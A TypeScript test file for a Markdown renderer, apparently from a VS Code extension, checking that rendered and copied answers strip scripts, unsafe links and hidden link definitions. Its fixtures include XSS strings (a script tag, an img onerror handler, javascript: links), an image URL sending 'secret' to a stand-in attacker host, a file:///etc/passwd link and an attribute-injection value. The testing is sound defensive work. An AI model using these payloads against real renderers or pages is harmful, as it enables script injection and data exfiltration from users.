import { expect, it } from 'vitest';
import { copiedMarkdown, renderMarkdown, renderOwn } from './renderMarkdown.ts';

it('lets no HTML, no image and no address through that could run or load something', () => {
  const hostile = [
    '<script>steal()</script><img src=x onerror=steal()>',
    '![pixel](https://evil.example/?q=secret)',
    '[a](javascript:steal()) [b](data:text/html,x) [c](vbscript:x) [d](file:///etc/passwd)',
    '<https://ok.example> [e](JAVASCRIPT:steal())',
  ].join('\n\n');
  const html = renderMarkdown(hostile);
  expect(html).not.toMatch(/<(?:script|img|iframe)/iu);
  expect([...html.matchAll(/href="(?<address>[^"]*)"/gu)].map(({ groups }) => groups?.['address'])).toEqual([
    // An image is a link that somebody has to click.
    'https://evil.example/?q=secret',
    'https://ok.example',
  ]);
});

it('keeps code, lists and tables, and paths as links', () => {
  expect(renderMarkdown('- `a`\n- **b**')).toContain('<li><strong>b</strong></li>');
  expect(renderMarkdown('|a|b|\n|-|-|\n|1|2|')).toContain('<td>2</td>');
  expect(renderMarkdown('[app](src/app.ts#L3)')).toContain('href="src/app.ts#L3"');
});

it('names the language of a block of code once that is complete, without letting its name do anything', () => {
  const open = '- in a list\n\n  ```TS\n  const a = "';
  expect(renderMarkdown(open)).toContain('<pre><code>const a = &quot;');
  expect(renderMarkdown(`${open}";\n\n  b();\n  \`\`\`\n`)).toContain('<code data-language="ts">');
  expect(renderMarkdown('```js\n```')).toContain('<code data-language="js">');
  expect(renderMarkdown('```js" onclick="x\n1\n```')).toContain('<code data-language="js">1');
  expect(renderMarkdown('```\n1\n```')).toContain('<pre><code>1\n</code></pre>');
});

it('draws the state of tasks, and an image as a link with its words', () => {
  const tasks = renderMarkdown('- [x] done\n- [ ] open\n- a [x] in words');
  expect(tasks).toContain('<li>☑ done</li>\n<li>☐ open</li>\n<li>a [x] in words</li>');
  expect(renderMarkdown('![A "cat"](a.png)')).toBe('<p><a href="a.png">A &quot;cat&quot;</a></p>\n');
});

it('draws no icons of VS Code in our own lines, but keeps what is escaped', () => {
  expect(renderOwn('$(history) [Show](command:pincer.runs.showLast)')).toBe(
    '<p><a href="command:pincer.runs.showLast">Show</a></p>\n',
  );
  expect(renderOwn('echo \\$(history)')).toContain('$(history)');
});

it('copies an answer without the definitions of links and what stands behind a fence, which nobody saw', () => {
  const hidden = [
    'Seen [a][x].',
    '',
    '[x]: https://y.example "evil one"',
    '[z]:',
    '  /path',
    "  'evil",
    "  two'",
    '',
    '> [q]: z "evil three"',
    '> quoted',
    '',
    '- [l]: z (evil four)',
    '- item',
    '',
    '~~~js evil five',
    '[c]: in code',
    '~~~',
  ].join('\n');
  const copied = copiedMarkdown(hidden);
  expect(copied).not.toContain('evil');
  expect(copied).toContain('Seen [a][x].');
  expect(copied).toContain('> quoted');
  expect(copied).toContain('- item\n\n~~~js\n[c]: in code\n~~~');
});

it('copies what is drawn as it was written', () => {
  const seen = [
    '# Title',
    'Set\n===',
    'Two\nlines [x]: y',
    '|a|b|\n|-|-|\n|1|2|',
    '1. one\n   - two\n\n     > three',
    '- \n- a',
    '    code [x]: y',
    '---',
    '```ts\nconst a = 1;\n\n\n```',
    '<div>kept</div>',
    '```\nopen',
  ].join('\n\n');
  expect(copiedMarkdown(seen)).toBe(seen);
});
